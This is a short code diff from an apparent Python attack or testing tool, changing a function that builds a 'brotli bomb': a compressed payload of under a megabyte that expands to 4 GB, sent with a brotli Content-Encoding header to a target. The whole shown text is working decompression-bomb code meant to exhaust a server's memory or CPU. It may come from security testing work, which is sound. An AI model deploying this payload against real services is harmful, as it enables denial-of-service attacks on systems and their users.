@@ -111,8 +111,8 @@ class Target:
 
 
 def brotli_bomb(target: Target) -> Counter[int]:
-    """A few kilobytes of brotli that are 4 GB, to both doors."""
-    packer = brotli.Compressor()
+    """Less than a megabyte of brotli that is 4 GB, to both doors."""
+    packer = brotli.Compressor(quality=1)
     parts = [packer.process(bytes(1 << 26)) for _ in range(64)]
     bomb = b"".join([*parts, packer.finish()])
     headers = {"Content-Encoding": "br"}
